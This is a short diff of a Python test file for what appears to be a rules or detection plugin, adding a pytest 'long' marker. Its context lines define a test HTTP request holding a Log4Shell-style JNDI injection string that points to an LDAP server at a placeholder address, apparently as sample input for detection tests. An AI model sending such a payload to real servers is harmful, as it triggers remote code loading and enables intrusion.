@@ -21,6 +21,8 @@ from plugins.rules import Rules
 from tests.shared import ROOT
 from tests.test_testing import Listener
 
+pytestmark = pytest.mark.long
+
 WEB = b"GET /?x=${jndi:ldap://192.0.2.66/a} HTTP/1.1\r\nHost: www.example.org\r\n\r\n"
 RAW = b"one two three four five six seven eight nine ten eleven twelve thirteen"
 AT_LEAST = 80
